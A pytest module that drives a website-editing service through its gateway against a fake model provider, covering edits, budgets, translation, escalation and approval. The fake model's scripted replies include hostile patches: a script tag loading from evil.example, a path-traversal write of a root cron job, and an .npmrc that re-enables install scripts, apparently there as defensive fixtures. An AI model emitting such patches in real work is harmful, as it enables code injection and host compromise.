"""Tier 1 from claim to preview, through the real gateway, with the fake provider at the other end."""

import json
import sys
from collections.abc import Iterator
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass
from functools import cache
from hashlib import sha256
from pathlib import Path
from shutil import copytree
from uuid import UUID

import pytest
from pydantic import SecretStr
from sqlalchemy import text

from gateway.config import GatewayConfig, ProviderConfig
from gateway.fake_provider.config import FakeProviderConfig, LoggedCall, billed_nanousd, read_log
from gateway.fake_provider.server import running_fake_provider
from ledger.errors import ApprovalRefusedError
from ledger.job_control import approve
from ledger.releases import active_release
from ledger.store import Ledger
from ledger.tables import Job, Release, Site
from producers.use_cases.clarify import Clarifier
from producers.use_cases.jobs import describe
from producers.use_cases.sites import Sites
from routing.jobs import MAX_QUESTIONS
from routing.policy.platform import platform_policy
from routing.queues import QueueName, Tier
from sites.content_store import ContentStore
from sites.directories import write_directory
from sites.releases import manifest_of
from sites.spec.catalog import catalog_prompt
from sites.spec.languages.translation import MAX_CHUNKS
from sites.spec.model import MAX_PAGES
from tests.factories import Shop, not_available
from tests.services import wait_until
from tests.threads import serve_gateway_in_thread
from workers.attempt import Attempt
from workers.handlers.answer import answer_question
from workers.handlers.patch import patch_files
from workers.handlers.publish import run_control
from workers.handlers.spec import edit_spec
from workers.lifecycle import Handler, Resources, run_attempt
from workers.outcomes import Candidate, Outcome

DEMO_SITE = Path(__file__).parents[3] / "producers" / "local" / "demo_site"
DIRECT = "Change the hero heading to 'Bread since 1932'"
ONE_CALL = 13_300_000
"""Nanodollars: enough for an outline, and for no call after it."""
BY_MODEL = "Add a short FAQ about opening hours and how to order ahead"
EMPTY_PATCH = """
rules:
  - name: told
    when: {tag: vague, prompt: 'owner answered', forced_tool: edit_site}
    say:
      - tool: edit_site
        input:
          summary: A warmer headline.
          operations: [{op: replace, path: /pages/index.html/elements/hero/props/heading, value: Warm bread at seven}]
  - name: vague
    when: {tag: vague}
    say:
      - tool: '{{ tool }}'
        input: {operations: [], patch: '', summary: Unclear., ask: "What should be better:\\nwords or colours?"}
  - name: films
    when: {tag: films, tools: [edit_site]}
    say:
      - tool: edit_site
        input:
          summary: Two films.
          operations:
            - {op: add, path: /pages/index.html/elements/ours, value: {type: Video, children: [],
               props: {title: Oven, href: "https://youtu.be/dQw4w9WgXcQ", embed: true}}}
            - {op: add, path: /pages/index.html/elements/theirs, value: {type: Video, children: [],
               props: {title: Mill, href: "https://video.example/mill", embed: true}}}
            - {op: add, path: /pages/index.html/elements/page/children/-, value: ours}
            - {op: add, path: /pages/index.html/elements/page/children/-, value: theirs}
  - name: cannot
    when: {tag: cannot}
    say:
      - tool: '{{ tool }}'
        input: {operations: [], patch: '', summary: None., cannot: No component counts down.}
  - name: no-translation
    when: {tag: no-translation, tools: [translate_texts]}
    say:
      - tool: translate_texts
        input: {language: en, texts: [], cannot: Nothing is to be translated.}
  - name: dear
    when: {tag: bilingual, tools: [write_outline]}
    usage: {input_tokens: 3300, output_tokens: 1500}
  - name: bilingual
    when: {tag: bilingual, tools: [write_outline]}
    say:
      - tool: write_outline
        input:
          name: Ada's Bikes
          tagline: Repairs while you wait
          summary: "Two parts,\\n and no shop."
          lang: en
          also: [nl]
          sections: [{kind: Hero, heading: Your bike by noon}, {kind: RichText, heading: How, text: Bring it by nine.}]
  - name: no-dutch
    when: {tag: bilingual, tools: [translate_texts]}
    say:
      - tool: translate_texts
        input: {language: nl, texts: []}
  - name: goats
    when: {tag: goats, tools: [write_outline]}
    say:
      - tool: write_outline
        input:
          name: Ada's Goats
          summary: A page.
          drawing: a goat on a rock
          sections: [{kind: Hero, heading: Cheese from six goats}]
  - name: kids
    when: {tag: kids, tools: [write_outline]}
    say:
      - tool: write_outline
        input:
          name: Ada's Goats
          summary: A page.
          drawing: a goat on a rock
          sections: [{kind: Hero, heading: Cheese from six goats}, {kind: RichText, text: Kids., drawing: kids}]
  - name: dear-herd
    when: {tag: herd, tools: [write_outline]}
    usage: {input_tokens: 3300, output_tokens: 1500}
  - name: herd
    when: {tag: herd, tools: [write_outline]}
    say:
      - tool: write_outline
        input:
          name: Ada's Goats
          summary: A page.
          drawing: a goat on a rock
          mark: a horn
          sections: [{kind: Hero, heading: Cheese from six goats}, {kind: RichText, text: Kids., drawing: kids}]
  - name: slow-hand
    when: {tag: kids, tools: [draw]}
    fault: {kind: stall, seconds: 4}
  - name: a-cow-instead
    when: {tag: cow, tools: [edit_site]}
    say:
      - tool: edit_site
        input:
          summary: Another picture.
          operations:
            - {op: remove, path: /pages/index.html/elements/hero/props/image}
            - {op: add, path: /pages/index.html/elements/hero/props/drawing, value: {of: a cow}}
  - name: no-shapes
    when: {tag: undrawable, tools: [draw]}
    say:
      - tool: draw
        input: {shapes: [red circle 1 2 3]}
  - name: rest-of-a-page
    when: {tag: long-page, prompt: 'cut off at its limit', tools: [edit_site]}
    say:
      - tool: edit_site
        input:
          summary: A page of five texts.
          operations:
            - {op: add, path: /pages/long.html/elements/e, value: {type: RichText, props: {body: "Five"}, children: []}}
            - {op: add, path: /pages/long.html/elements/page/children/-, value: e}
            - {op: add, path: /pages/index.html/elements/header/props/links/-, value: {label: Long, href: long.html}}
  - name: long-page
    when: {tag: long-page, tools: [edit_site]}
    say:
      - tool: edit_site
        input:
          operations:
            - {op: add, path: /pages/long.html, value: {root: page, elements: {page: {type: Page,
               props: {title: Long}, children: [header, a]}, header: {type: Shared, props: {of: header}},
               a: {type: RichText, props: {body: '{{ "Bread and time. " * 250 }}'}, children: []}}}}
            - {op: add, path: /pages/long.html/elements/b, value: {type: RichText, props:
               {body: '{{ "Flour and water. " * 250 }}'}, children: []}}
          summary: Cut.
  - name: long-report
    when: {tag: long-report, tools: [edit_site]}
    say:
      - tool: edit_site
        input:
          summary: '{{ "Please check the hours on the page. " * 10 }}'
          operations: [{op: replace, path: /pages/index.html/elements/hero/props/text, value: Baked slowly.}]
  - name: long-report-of-a-patch
    when: {tag: long-report, tools: [patch_files]}
    say:
      - tool: patch_files
        input:
          summary: '{{ "Please check the hours on the page. " * 10 }}'
          patch: |
            slow.html
            <<<<<<< SEARCH
            =======
            <!doctype html>
            <html lang="en"><head><title>Slow</title></head><body><h1>Baked slowly</h1></body></html>
            >>>>>>> REPLACE
  - name: answered-with-the-question-at-hand
    when: {prompt: 'With its preview the owner was asked, as data: <question>Who teaches it', tools: [edit_site]}
    say:
      - tool: edit_site
        input:
          summary: Wren teaches it.
          operations: [{op: replace, path: /pages/index.html/elements/hero/props/text, value: By Wren.}]
  - name: one-thing-open
    when: {tag: one-thing-open, tools: [edit_site]}
    say:
      - tool: edit_site
        input:
          summary: The text is new.
          ask: Who teaches it?
          operations: [{op: replace, path: /pages/index.html/elements/hero/props/text, value: Baked slowly.}]
  - name: already
    when: {tag: already}
    say:
      - tool: '{{ tool }}'
        input: {operations: [], patch: '', summary: None., answer: It says so already.}
  - name: which
    when: {tag: which, tools: [argue]}
    say:
      - tool: argue
        input: {recommendation: ask, case: Two fit., constraint: "Which of the two?"}
  - name: veto
    when: {tag: veto, tools: [argue]}
    say:
      - tool: argue
        input: {recommendation: stop, case: It cannot be undone., constraint: Keep the section.}
  - name: has-read
    when: {tag: has-read, prompt: 'Three things we will not hurry', tools: [argue]}
    say:
      - tool: argue
        input: {recommendation: stop, case: The page promises it., constraint: Keep the section.}
  - name: act
    when: {tag: act, tools: [route]}
    say:
      - tool: route
        input: {mode: ACTION}
  - name: means-panel-d
    when: {prompt: 'ope panel d', tools: [choose_option]}
    say:
      - tool: choose_option
        input: {choice: d, confidence: 0.9}
  - name: means-nothing
    when: {prompt: 'gribble', tools: [choose_option]}
    say:
      - tool: choose_option
        input: {choice: abstain, confidence: 0.9}
  - name: is-not-sure
    when: {prompt: 'wobble', tools: [choose_option]}
    say:
      - tool: choose_option
        input: {choice: d, confidence: 0.2}
  - name: same-way
    when: {tag: same-way, tools: [argue]}
    say:
      - tool: argue
        input: {recommendation: RETRY, case: The cause has passed.}
  - name: other-way
    when: {tag: other-way, tools: [argue]}
    say:
      - tool: argue
        input: {recommendation: PIVOT, case: The way was wrong., constraint: Write the copy by hand.}
  - name: ask-a-person
    when: {tag: ask-a-person, tools: [argue]}
    say:
      - tool: argue
        input: {recommendation: ESCALATE, case: Nobody knows what is wanted.}
  - name: raw-html
    when: {tag: raw-html, tools: [patch_files]}
    say:
      - tool: patch_files
        input:
          patch: |
            index.html
            <<<<<<< SEARCH
              <p>Open from 8 to 17.</p>
            =======
              <script src="https://evil.example/x.js"></script>
            >>>>>>> REPLACE
          summary: A script.
  - name: reaches-out
    when: {tag: reaches-out, tools: [patch_files]}
    say:
      - tool: patch_files
        input:
          patch: "../../etc/cron.d/x\\n<<<<<<< SEARCH\\n=======\\n* * * * * root id\\n>>>>>>> REPLACE\\n"
          summary: Out.
  - name: plants
    when: {tag: plants, tools: [patch_files]}
    say:
      - tool: patch_files
        input:
          patch: ".npmrc\\n<<<<<<< SEARCH\\n=======\\nignore-scripts=false\\n>>>>>>> REPLACE\\n"
          summary: Planted.
  - name: patch-it
    when: {tag: patch-it, tools: [classify]}
    say:
      - tool: classify
        input: {tier: 2, reason: It needs a diff., estimated_complexity: low}
  - name: changes-nothing
    when: {tag: nothing, tools: [edit_site]}
    say:
      - tool: edit_site
        input:
          summary: Nothing.
          operations: [{op: test, path: /pages/index.html/root, value: page}]
  - name: loses-the-change
    when: {tag: loses, tools: [edit_site]}
    say:
      - tool: edit_site
        input:
          summary: A section about our ovens.
          operations:
            - op: replace
              path: /pages/index.html/elements/hero/props/heading
              value: Bread from our own hearth
  - name: drops-the-copy
    when: {tag: drops, tools: [edit_site]}
    say:
      - tool: edit_site
        input:
          summary: Gone.
          operations:
            - {op: replace, path: /pages/index.html/elements/page/children, value: [header, hero, footer]}
            - {op: remove, path: /pages/classes.html}
            - {op: remove, path: /pages/index.html/elements/menu}
            - {op: remove, path: /pages/index.html/elements/story}
            - {op: remove, path: /pages/index.html/elements/testimonials}
            - {op: remove, path: /pages/index.html/elements/faq}
"""


@dataclass
class Rig:
    """One installation: ledger, content store, gateway and provider, and a worker's resources."""

    shop: Shop
    resources: Resources
    log: Path
    seen: int = 0

    def site(self, name: str = "bakery") -> UUID:
        Sites(self.shop.ledger, self.resources.content_store, self.shop.policy).import_site("acme", name, DEMO_SITE)
        site_id: UUID = self.shop.scalar("SELECT id FROM site WHERE name = :name", name=name)
        return site_id

    def run(self, job_id: UUID, handler: Handler = edit_spec) -> Job:
        job = self.shop.job(job_id)
        run_attempt(self.shop.message(job_id), QueueName(job.queue), handler, self.resources)
        return self.shop.job(job_id)

    def edit(self, prompt: str, site_id: UUID | None, **fields: object) -> Job:
        return self.run(self.shop.accept(prompt=prompt, site_id=site_id, **fields))

    def calls(self) -> list[LoggedCall]:
        """What the provider logged since the test began."""
        return read_log(self.log)[self.seen :]

    def files(self, release_id: UUID | None) -> dict[str, bytes]:
        release: Release = self.shop.find(Release, release_id)
        return self.resources.content_store.read_tree(manifest_of(release))

    def shown(self, site_id: UUID) -> dict[str, bytes]:
        with self.shop.ledger.begin() as session:
            release = active_release(session, session.get_one(Site, site_id))
            assert release is not None
            return self.resources.content_store.read_tree(manifest_of(release))


@pytest.fixture(scope="module")
def servers(
    module_ledger: tuple[Ledger, str], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[Resources, Path]]:
    ledger, url = module_ledger
    home = tmp_path_factory.mktemp("spec")
    scenario = home / "mine.yaml"
    scenario.write_text(EMPTY_PATCH)
    log = home / "requests.jsonl"
    with ExitStack() as stack:
        config = FakeProviderConfig(speed="max", faults=True, scenarios=(scenario,), log=log)
        model = stack.enter_context(running_fake_provider(config))
        provider = ProviderConfig(base_url=model.url, api_key=SecretStr("k" * 32), label="fake", day_usd=100)
        gateway = GatewayConfig(providers={"fake": provider}, pepper=SecretStr("p" * 32))
        gateway_url = stack.enter_context(serve_gateway_in_thread(gateway, url, platform_policy()))
        yield (
            Resources(
                ledger=ledger,
                content_store=ContentStore(home / "content-store"),
                policy=platform_policy(),
                gateway_url=gateway_url,
                worker="w1",
            ),
            log,
        )


@pytest.fixture
def rig(shop: Shop, servers: tuple[Resources, Path]) -> Rig:
    shop.tenant(provider="fake")
    resources, log = servers
    return Rig(shop, resources, log, seen=len(read_log(log)) if log.exists() else 0)


def test_a_direct_edit_makes_no_model_call_and_costs_nothing(rig: Rig) -> None:
    site = rig.site()
    before = rig.shown(site)
    job = rig.edit(DIRECT, site)
    assert (job.state, job.result["how"]) == ("awaiting_approval", "direct edit, no model")
    changed = rig.files(job.release_id)
    assert b"Bread since 1932" in changed["index.html"]
    assert {path for path in changed if changed[path] != before.get(path)} == {"index.html"}
    assert (rig.calls(), rig.shop.scalar("SELECT count(*) FROM call")) == ([], 0)
    assert rig.shown(site) == before


def test_an_edit_that_would_be_unreadable_says_how_it_was_mended(rig: Rig) -> None:
    job = rig.edit("Make the primary colour #ffee00", rig.site())
    assert job.state == "awaiting_approval"
    assert "words in the colour chosen would be hard to read here" in job.result["summary"]


@pytest.mark.req("H-011", "H-022", "H-013")
def test_an_edit_by_the_model_takes_exactly_one_call(rig: Rig) -> None:
    job = rig.edit(BY_MODEL, rig.site())
    assert (job.state, job.result["how"]) == ("awaiting_approval", "a model's patch of the spec")
    (call,) = rig.calls()
    spent = rig.shop.scalar("SELECT sum(cost_nanousd) FROM call WHERE job_id = :id", id=job.id)
    assert spent == billed_nanousd(call, rig.shop.policy.prices) > 0


def test_a_page_longer_than_a_reply_comes_in_two_calls(rig: Rig) -> None:
    """It was cut, asked for again, cut again, and handed to a tier that would have detached the site's pages."""
    job = rig.edit("Write the long page anew [rehearse:long-page]", rig.site())
    assert (job.state, job.result["summary"]) == ("awaiting_approval", "A page of five texts.")
    page = rig.files(job.release_id)["long.html"]
    assert page.index(b"Bread and time.") < page.index(b"Five")
    assert len(rig.calls()) == 2


@pytest.mark.req("H-022")
def test_a_second_edit_of_an_unchanged_document_reads_it_from_the_cache(rig: Rig) -> None:
    rig.edit(BY_MODEL, rig.site())
    rig.edit("Add a note that we bake gluten-free bread on Thursdays", rig.site("twin"))
    first, second = rig.calls()
    assert second.cache_read_tokens == first.cache_write_tokens + first.cache_read_tokens > 4_000
    assert (second.cache_write_tokens, second.input_tokens < 200) == (0, True)
    ((prompt,), (same,)) = rig.shop.rows(
        "SELECT data ->> 'prompt' FROM event WHERE kind = 'step' AND data ->> 'step' = 'model:spec_edit'"
    )
    assert prompt == same == sha256(catalog_prompt().encode()).hexdigest()[:8]


@pytest.mark.req("H-011", "H-013")
def test_a_new_site_takes_a_call_that_outlines_it_and_one_that_proofreads_it(rig: Rig) -> None:
    job = rig.edit("A site for Ada's Bikes, a repair shop in Ghent", rig.shop.site("bikes"))
    assert (job.state, job.result["how"]) == ("awaiting_approval", "a model's outline")
    assert [call.tools for call in rig.calls()] == [("write_outline",), ("correct_outline",)]
    assert b"<main" in rig.files(job.release_id)["index.html"]


def test_a_new_site_shows_a_drawing_of_its_own_by_a_further_call(rig: Rig) -> None:
    site = rig.shop.site("goats")
    made = rig.edit("A site for Ada's Goats, a dairy in Ghent [rehearse:goats]", site)
    assert (made.state, made.result["summary"]) == ("awaiting_approval", "A page.")
    assert b'cx="420" cy="160" r="66" fill="var(--accent)"' in rig.files(made.release_id)["index.html"]
    assert len(rig.calls()) == 3


def test_an_edit_may_ask_for_another_drawing(rig: Rig) -> None:
    job = rig.edit("Show a cow at the top [rehearse:cow]", rig.site())
    assert (job.state, job.result["summary"]) == ("awaiting_approval", "Another picture.")
    assert b'cx="420" cy="160" r="66" fill="var(--accent)"' in rig.files(job.release_id)["index.html"]


def test_a_new_site_whose_drawing_does_not_come_out_has_a_stock_one_and_says_so(rig: Rig) -> None:
    prompt = "A site for Ada's Goats, a dairy in Ghent [rehearse:goats] [rehearse:undrawable]"
    job = rig.edit(prompt, rig.shop.site("goats"))
    assert (job.state, job.detail) == ("awaiting_approval", None)
    assert job.result["summary"] == "A page. Note: the drawing did not come out, so ask for it once more."
    assert b"art-fill" in rig.files(job.release_id)["index.html"]
    assert len(rig.calls()) == 5


def test_three_drawings_of_a_long_request_leave_the_money_to_proofread_it(rig: Rig) -> None:
    told = "\n".join(
        f"Goat number {number} gives two litres a day, and her cheese costs {number} euro." for number in range(35)
    )
    job = rig.edit(f"A site for Ada's Goats, a dairy in Ghent [rehearse:herd]\n{told}", rig.shop.site("goats"))
    assert (job.state, job.result["summary"]) == ("awaiting_approval", "A page.")
    assert sorted(call.tools for call in rig.calls()) == [("correct_outline",), *[("draw",)] * 3, ("write_outline",)]
    assert rig.shop.rows("SELECT data FROM event WHERE kind = 'limit_hit'") == []


def test_a_new_site_does_not_wait_for_drawings_beyond_its_time(rig: Rig, monkeypatch: pytest.MonkeyPatch) -> None:
    """They were under way at the soft limit, and the site that was paid was lost (read before release)."""
    monkeypatch.setattr("workers.handlers.model_task._CLOSING_SECONDS", 23)  # of 25
    job = rig.edit("A site for Ada's Goats, a dairy in Ghent [rehearse:kids]", rig.shop.site("goats"))
    assert (job.state, job.detail) == ("awaiting_approval", None)
    assert job.result["summary"] == "A page. Note: the drawing did not come out, so ask for it once more."
    wait_until(lambda: len(rig.calls()) == 3, seconds=20, what="both drawings that were given up")


@pytest.mark.parametrize(("cap_nanousd", "calls"), [(None, 3), (ONE_CALL, 1)])
def test_a_new_site_whose_further_language_cannot_be_made_or_paid_comes_in_one_and_says_so(
    rig: Rig, cap_nanousd: int | None, calls: int
) -> None:
    limits = {} if cap_nanousd is None else {"cap_nanousd": cap_nanousd}
    prompt = "A site in English and Dutch for Ada's Bikes, a repair shop in Ghent [rehearse:bilingual]"
    job = rig.edit(prompt, rig.shop.site("bikes"), **limits)
    assert (job.state, job.detail) == ("awaiting_approval", None)
    assert job.result["summary"] == "Two parts, and no shop. Note: not translated into nl; ask for that next."
    assert len(rig.calls()) == calls
    assert {path for path in rig.files(job.release_id) if path.endswith(".html")} == {"index.html"}


@pytest.mark.req("H-067", "H-122")
def test_an_invalid_spec_is_tried_once_more_and_then_handed_to_the_next_tier_with_the_reason(rig: Rig) -> None:
    site = rig.site()
    before = rig.shown(site)
    job = rig.edit(f"{BY_MODEL} [rehearse:invalid-spec]", site)
    assert (job.state, job.queue, job.tier) == ("queued", "patch", 2)
    assert len(rig.calls()) == 2
    (event,) = rig.shop.rows("SELECT data FROM event WHERE kind = 'escalated'")
    assert event.data["reason"] == "spec_invalid"
    assert event.data["detail"]
    assert rig.shown(site) == before
    job = rig.run(job.id, not_available("tier 2 (patch)"))
    assert (job.state, job.reason) == ("failed", "not_available")
    spent = rig.shop.scalar("SELECT spent_nanousd FROM cap WHERE scope = 'job'")
    assert spent == sum(billed_nanousd(call, rig.shop.policy.prices) for call in rig.calls())


@pytest.mark.req("H-067")
def test_a_spec_that_is_valid_at_the_second_try_is_kept(rig: Rig) -> None:
    job = rig.edit(f"{BY_MODEL} [rehearse:invalid-spec-once]", rig.site())
    assert job.state == "awaiting_approval"
    assert len(rig.calls()) == 2


@pytest.mark.req("H-067")
def test_the_outline_of_a_new_site_that_is_invalid_is_asked_for_once_more_too(rig: Rig) -> None:
    job = rig.edit("A site for Ada's Bikes [rehearse:invalid-spec-once]", rig.shop.site("bikes"))
    assert job.state == "awaiting_approval"
    assert next(call.rule for call in rig.calls()) == "invalid-spec-once"


@pytest.mark.req("H-068")
def test_an_edit_after_which_every_page_is_the_same_is_no_preview(rig: Rig) -> None:
    """A time zone for hours that no clock can tell promised "open now" in the third trial (issue 20)."""
    job = rig.edit(f"{BY_MODEL} [rehearse:no-effect-once]", rig.site())
    assert job.state == "awaiting_approval"
    assert "Open or closed" not in job.result["summary"]
    first, _ = rig.calls()
    assert first.rule == "no-effect-once"


def test_a_film_of_a_host_that_may_not_be_embedded_is_linked_to_and_the_owner_is_told(rig: Rig) -> None:
    job = rig.edit(f"{BY_MODEL} [rehearse:films]", rig.site())
    assert job.state == "awaiting_approval"
    assert len(rig.calls()) == 1
    made = rig.files(job.release_id)["index.html"].decode()
    assert made.count("<iframe") == 1
    assert "https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" in made
    assert 'href="https://video.example/mill"' in made
    assert "no frames of" in job.result["summary"]
    assert "video.example" in job.result["summary"]


def test_a_spec_that_the_scan_refuses_goes_back_to_the_model_once(rig: Rig) -> None:
    job = rig.edit(f"{BY_MODEL} [rehearse:embeds-once]", rig.site())
    assert job.state == "awaiting_approval"
    assert [call.rule for call in rig.calls()][:1] == ["embeds-once-in-spec"]
    assert len(rig.calls()) == 2


def test_a_site_is_translated_by_a_list_of_its_texts_in_calls_side_by_side(rig: Rig) -> None:
    site = rig.site()
    job = rig.edit("Translate the site into German", site)
    assert (job.state, job.result["how"]) == ("awaiting_approval", "a model's translation")
    page = rig.files(job.release_id)["index.html"].decode()
    assert '<html lang="de"' in page
    assert "[de] " in page
    assert 2 < len(rig.calls()) <= 1 + MAX_CHUNKS, "the first is about the words that recur"
    spent = rig.shop.scalar("SELECT sum(cost_nanousd) FROM call WHERE job_id = :id", id=job.id)
    assert spent == sum(billed_nanousd(call, rig.shop.policy.prices) for call in rig.calls())


def test_a_further_language_stands_beside_the_pages_and_its_owner_is_told_which(rig: Rig) -> None:
    job = rig.edit("Add a German version of the site", rig.site())
    assert (job.state, job.result["how"]) == ("awaiting_approval", "a model's translation")
    assert job.result["summary"] == "In a further language: de/index.html, de/classes.html."
    files = rig.files(job.release_id)
    assert b'<html lang="de"' in files["de/index.html"]
    assert b"[de] " not in files["index.html"]
    assert b'hreflang="de" href="de/index.html"' in files["index.html"]


def test_a_site_that_is_full_gets_no_version_and_the_next_tier_is_told_how_many_pages_it_may_have(
    rig: Rig, tmp_path: Path
) -> None:
    spec = json.loads((DEMO_SITE / "site.json").read_text())
    line = {"type": "Text", "props": {"text": "Bread."}}
    page = {
        "root": "page",
        "elements": {"page": {"type": "Page", "props": {"title": "x"}, "children": ["a"]}, "a": line},
    }
    spec["pages"] |= {f"p{number}.html": page for number in range(MAX_PAGES - len(spec["pages"]))}
    copytree(DEMO_SITE, tmp_path / "full")
    (tmp_path / "full" / "site.json").write_text(json.dumps(spec))
    Sites(rig.shop.ledger, rig.resources.content_store, rig.shop.policy).import_site("acme", "full", tmp_path / "full")
    job = rig.edit("Add a German version of the site", rig.shop.scalar("SELECT id FROM site WHERE name = 'full'"))
    assert (job.state, job.queue) == ("queued", "patch")
    ((detail,),) = rig.shop.rows("SELECT data->>'detail' FROM event WHERE kind = 'escalated'")
    assert detail == f"a site holds at most {MAX_PAGES} pages, and this one has {MAX_PAGES}: no version has room"
    assert len(rig.calls()) <= 1 + MAX_CHUNKS, "it is not tried a second time"


def test_what_only_sounds_like_a_translation_is_edited_like_anything_else(rig: Rig) -> None:
    job = rig.edit("Add a line for guests that also read in English [rehearse:no-translation]", rig.site())
    assert job.state == "awaiting_approval"
    rules = [call.rule for call in rig.calls()]
    assert (set(rules[:-1]), rules[-1]) == ({"no-translation"}, "site-edit")


@pytest.mark.req("H-068", "H-122")
@pytest.mark.parametrize("tag", ["nothing", "drops"])
def test_a_valid_but_poor_spec_is_tried_once_more_and_then_handed_on(rig: Rig, tag: str) -> None:
    job = rig.edit(f"{BY_MODEL} [rehearse:{tag}]", rig.site())
    assert (job.state, job.queue, job.tier) == ("queued", "patch", 2)
    assert len(rig.calls()) == 2
    assert rig.shop.rows("SELECT data->>'reason' FROM event WHERE kind = 'escalated'") == [("spec_poor",)]


@pytest.mark.parametrize(("handler", "to"), [(edit_spec, "patch"), (patch_files, "agent")])
def test_a_model_that_says_what_its_tool_cannot_do_hands_the_job_on_after_one_call(
    rig: Rig, handler: Handler, to: str
) -> None:
    tier = Tier.SPEC if handler is edit_spec else Tier.PATCH
    job_id = rig.shop.accept(prompt=f"{BY_MODEL} [rehearse:cannot]", site_id=rig.site(), tier=tier)
    assert rig.run(job_id, handler).queue == to
    assert len(rig.calls()) == 1
    ((data,),) = rig.shop.rows("SELECT data FROM event WHERE kind = 'escalated'")
    assert (data["reason"], data["detail"]) == ("beyond_tier", "No component counts down.")


@pytest.mark.parametrize("handler", [edit_spec, patch_files])
def test_what_the_owner_should_check_has_its_place_in_the_report(rig: Rig, handler: Handler) -> None:
    tier = Tier.SPEC if handler is edit_spec else Tier.PATCH
    job = rig.run(rig.shop.accept(prompt=f"{BY_MODEL} [rehearse:long-report]", site_id=rig.site(), tier=tier), handler)
    assert (job.state, job.result.get("summary")) == (
        "awaiting_approval",
        ("Please check the hours on the page. " * 10).strip(),
    )


@pytest.mark.parametrize("handler", [edit_spec, patch_files])
def test_a_model_that_finds_nothing_to_change_answers_after_one_call_on_the_same_bill(
    rig: Rig, handler: Handler
) -> None:
    tier, site = Tier.SPEC if handler is edit_spec else Tier.PATCH, rig.site()
    job = rig.run(rig.shop.accept(prompt=f"{BY_MODEL} [rehearse:already]", site_id=site, tier=tier), handler)
    assert (job.state, job.reason, job.release_id) == ("answered", "done", None)
    assert job.result["answer"] == "It says so already."
    assert rig.shop.scalar("SELECT lock_job_id FROM site WHERE id = :id", id=site) is None
    spent = rig.shop.scalar("SELECT spent_nanousd FROM cap WHERE scope = 'job'")
    assert spent == sum(billed_nanousd(call, rig.shop.policy.prices) for call in rig.calls()) > 0
    assert len(rig.calls()) == 1


@pytest.mark.parametrize(("tag", "then"), [("cannot", ("queued", "patch")), ("vague", ("clarifying", "spec"))])
def test_a_model_may_decline_the_outline_of_a_new_site(rig: Rig, tag: str, then: tuple[str, str]) -> None:
    job_id = rig.shop.accept(prompt=f"A site for us [rehearse:{tag}]", site_id=rig.shop.site("fresh"), tier=Tier.SPEC)
    job = rig.run(job_id, edit_spec)
    assert (job.state, job.queue) == then
    assert len(rig.calls()) == 1


@pytest.mark.parametrize("tier", [Tier.SPEC, Tier.PATCH])
def test_a_vague_request_is_asked_back_and_goes_on_with_the_answer_on_the_same_bill(rig: Rig, tier: Tier) -> None:
    site = rig.site()
    handler = edit_spec if tier is Tier.SPEC else patch_files
    clarifier = Clarifier(rig.shop.ledger, rig.shop.policy, environment=dict)
    job_id = rig.shop.accept(prompt="Make it better [rehearse:vague]", site_id=site, tier=tier)
    for _ in range(1 if tier is Tier.SPEC else MAX_QUESTIONS):
        job = rig.run(job_id, handler)
        assert job.state == "clarifying"
        with rig.shop.ledger.begin() as session:
            asked = describe(session, job).clarification
        assert asked is not None
        assert (asked.question, asked.options) == ("What should be better: words or colours?", ())
        assert rig.shop.scalar("SELECT lock_job_id FROM site WHERE id = :id", id=site) is None
        assert clarifier.reply(job_id, "The words above the fold", tenant="acme", actor="owner").outcome == "answered"
        assert rig.shop.job(job_id).state == "queued"
    job = rig.run(job_id, handler)
    if tier is Tier.SPEC:
        assert job.state == "awaiting_approval"
        assert b"Warm bread at seven" in rig.files(job.release_id)["index.html"]
    else:
        assert job.queue == "agent", "whoever is not told more does not ask for ever"
    spent = rig.shop.scalar("SELECT spent_nanousd FROM cap WHERE scope = 'job'")
    assert spent == sum(billed_nanousd(call, rig.shop.policy.prices) for call in rig.calls())


@pytest.mark.threat("H6")
def test_where_policy_wants_four_eyes_nobody_approves_what_their_own_words_made(rig: Rig) -> None:
    rules = rig.shop.policy.approval.model_copy(update={"requester_may_approve": False})
    strict = rig.shop.policy.model_copy(update={"approval": rules})
    job_id = rig.edit("Make it better [rehearse:vague]", rig.site(), requested_by="alice").id
    clarifier = Clarifier(rig.shop.ledger, rig.shop.policy, environment=dict)
    clarifier.reply(job_id, "The words above the fold", tenant="acme", actor="bob")
    assert rig.run(job_id).state == "awaiting_approval"
    for asked in ("alice", "bob"):
        with pytest.raises(ApprovalRefusedError, match="second person"), rig.shop.ledger.begin() as session:
            approve(session, job_id, actor=asked, policy=strict)
    with rig.shop.ledger.begin() as session:
        assert approve(session, job_id, actor="carol", policy=strict).state == "publishing"


@pytest.mark.req("H-068")
def test_a_valid_spec_that_lost_what_was_asked_for_counts_as_poor(rig: Rig) -> None:
    job = rig.edit("Add a short section titled 'The oven diary' for our regulars [rehearse:loses]", rig.site())
    assert (job.state, job.queue) == ("queued", "patch")
    assert len(rig.calls()) == 2
    ((reason, detail),) = rig.shop.rows("SELECT data->>'reason', data->>'detail' FROM event WHERE kind = 'escalated'")
    assert reason == "spec_poor"
    assert "The oven diary" in str(detail)


def test_a_pinned_job_stays_and_fails_with_the_reason(rig: Rig) -> None:
    job_id = rig.shop.accept(prompt=f"{BY_MODEL} [rehearse:invalid-spec]", site_id=rig.site())
    rig.shop.execute('UPDATE job SET request = \'{"tier": "spec", "pin": true}\' WHERE id = :id', id=job_id)
    job = rig.run(job_id)
    assert (job.state, job.reason) == ("failed", "spec_invalid")


def test_a_page_that_is_no_render_of_its_spec_is_not_edited_as_one(rig: Rig) -> None:
    site = rig.site()
    with rig.shop.ledger.begin() as session:
        session.execute(
            text("UPDATE release SET spec_sha256 = NULL WHERE id = (SELECT active_release_id FROM site WHERE id = :s)"),
            {"s": site},
        )
    job = rig.edit(DIRECT, site)
    assert (job.state, job.queue) == ("queued", "patch")
    assert rig.shop.rows("SELECT data->>'reason' FROM event WHERE kind = 'escalated'") == [("not_spec_managed",)]
    assert rig.calls() == []


def test_a_budget_that_affords_no_call_ends_the_job_and_makes_none(rig: Rig) -> None:
    site = rig.site()
    job = rig.edit(BY_MODEL, site, cap_nanousd=1_000)
    assert (job.state, job.reason) == ("budget_exceeded", "cost_cap")
    assert "job budget" in str(job.detail)
    assert rig.calls() == []


def test_a_tenant_without_a_provider_is_told_so_and_direct_edits_still_work(rig: Rig) -> None:
    rig.shop.tenant(provider=None)
    site = rig.site()
    assert rig.edit(BY_MODEL, site).reason == "no_provider_key"
    assert rig.edit(DIRECT, site).state == "awaiting_approval"


